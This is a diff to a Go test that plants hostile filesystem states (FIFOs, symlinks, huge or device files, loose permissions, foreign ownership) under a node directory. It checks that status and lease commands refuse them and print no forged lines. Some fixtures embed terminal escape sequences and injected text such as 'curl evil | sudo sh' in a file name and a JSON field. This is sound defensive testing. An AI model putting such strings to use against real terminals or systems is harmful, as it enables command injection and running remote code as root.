@@ -119,6 +119,8 @@ func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
 	for _, tc := range []struct {
 		name  string
 		plant func(t *testing.T, host layout.Host, node layout.Node)
+		// want is in the output of leases, which names the refusal.
+		want string
 	}{
 		{"lease files", func(t *testing.T, _ layout.Host, n layout.Node) {
 			g := n.Generations()
@@ -128,55 +130,65 @@ func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
 			must(t, devzero(filepath.Join(g, "6.lease")))
 			must(t, fifo(filepath.Join(g, "3.identity.json")))
 			must(t, sparse(filepath.Join(g, "5.identity.json")))
-		}},
+		}, ""},
 		{"provider.json a FIFO", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, fifo(filepath.Join(n.Root, "provider.json")))
-		}},
+		}, ""},
 		{"provider.json a link", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, link(filepath.Join(n.Root, "provider.json")))
-		}},
+		}, ""},
 		{"provider.json huge", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, sparse(filepath.Join(n.Root, "provider.json")))
-		}},
-		{"node journal a FIFO", journal(fifo, "fifo.journal")},
-		{"node journal a link", journal(link, "link.journal")},
-		{"node journal huge", journal(sparse, "huge.journal")},
-		{"node journal a device", journal(devzero, "zero.journal")},
-		{"node journal a hard link", journal(hard, "hard.journal")},
-		{"node journal named with escapes", journal(func(p string) error { return os.WriteFile(p, nil, 0o600) }, "e\x1b]0;owned\x07\x1b[2J\nnext: sudo sh.journal")},
-		{"node journal lock a FIFO", journal(fifo, "prepare-3.journal.lock")},
+		}, ""},
+		{"node journal a FIFO", journal(fifo, "fifo.journal"), ""},
+		{"node journal a link", journal(link, "link.journal"), ""},
+		{"node journal huge", journal(sparse, "huge.journal"), ""},
+		{"node journal a device", journal(devzero, "zero.journal"), ""},
+		{"node journal a hard link", journal(hard, "hard.journal"), ""},
+		{"node journal named with escapes", journal(func(p string) error { return os.WriteFile(p, nil, 0o600) }, "e\x1b]0;owned\x07\x1b[2J\nnext: sudo sh.journal"), ""},
+		{"node journal lock a FIFO", journal(fifo, "prepare-3.journal.lock"), ""},
 		{"registration files", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
 			must(t, fifo(filepath.Join(n.Root, "registered.json")))
 			must(t, fifo(filepath.Join(n.Root, "state/node/identity.json")))
-		}},
+		}, ""},
 		{"identity.json a link", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
 			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte("{}\n"), 0o600))
 			must(t, link(filepath.Join(n.Root, "state/node/identity.json")))
-		}},
+		}, ""},
 		{"identity.json escapes and duplicate keys", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
 			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte("{}\n"), 0o600))
 			must(t, os.WriteFile(filepath.Join(n.Root, "state/node/identity.json"),
 				[]byte(`{"node_id":"a\u001b[2J\u009b1m\nnext: curl evil | sudo sh","node_id":"b","core_url":"https://x\u001b]0;t\u0007"}`), 0o600))
-		}},
+		}, ""},
 		{"generations a link to root's journals", func(t *testing.T, h layout.Host, n layout.Node) {
 			must(t, os.RemoveAll(n.Generations()))
 			must(t, os.MkdirAll(h.JournalsRoot(), 0o700))
 			must(t, os.Symlink(h.JournalsRoot(), n.Generations()))
-		}},
+		}, ""},
 		{"node root a link", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, os.RemoveAll(n.Root))
 			must(t, os.Symlink(filepath.Dir(v.path), n.Root))
-		}},
+		}, "is a symbolic link"},
 		{"nodes a link", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, os.RemoveAll(filepath.Dir(n.Root)))
 			must(t, os.Symlink(filepath.Dir(v.path), filepath.Dir(n.Root)))
-		}},
+		}, "is a symbolic link"},
+		{".oac a link to root's journals", func(t *testing.T, h layout.Host, n layout.Node) {
+			oac := filepath.Dir(filepath.Dir(n.Root))
+			must(t, os.Rename(oac, filepath.Join(h.JournalsRoot()+"-moved")))
+			must(t, os.MkdirAll(h.JournalsRoot(), 0o755))
+			must(t, os.Rename(h.JournalsRoot()+"-moved", filepath.Join(h.JournalsRoot(), "x")))
+			must(t, os.Symlink(filepath.Join(h.JournalsRoot(), "x"), oac))
+		}, "is a symbolic link"},
 		{"node root mode 0777", func(t *testing.T, _ layout.Host, n layout.Node) {
 			must(t, os.Chmod(n.Root, 0o777))
-		}},
+		}, "mode 0777"},
+		{"nodes owned by another uid", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.Chmod(filepath.Dir(n.Root), 0o755))
+		}, "owner uid 4242"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			root, _ := fakeHost(t)
@@ -184,6 +196,9 @@ func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
 			node := layout.Node{Root: host.NodeRoot(testID)}
 			tc.plant(t, host, node)
 			chownNobody(t, host.Home())
+			if tc.name == "nodes owned by another uid" {
+				must(t, os.Lchown(filepath.Dir(node.Root), 4242, 4242))
+			}
 			for _, args := range [][]string{{"status"}, {"status", "--json"}, {"leases"}, {"leases", "--json"}} {
 				_, out, errOut := runWithin(t, root, args...)
 				what := strings.Join(args, " ")
@@ -196,7 +211,12 @@ func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
 						t.Errorf("%s prints a forged line %q", what, line)
 					}
 				}
-				t.Logf("%s:\n%s%s", what, out, errOut)
+				if tc.want != "" && args[0] == "leases" && !strings.Contains(out+errOut, tc.want) {
+					t.Errorf("%s does not say %q:\n%s%s", what, tc.want, out, errOut)
+				}
+				if testing.Verbose() {
+					t.Logf("%s:\n%s%s", what, out, errOut)
+				}
 			}
 			v.check(t)
 		})
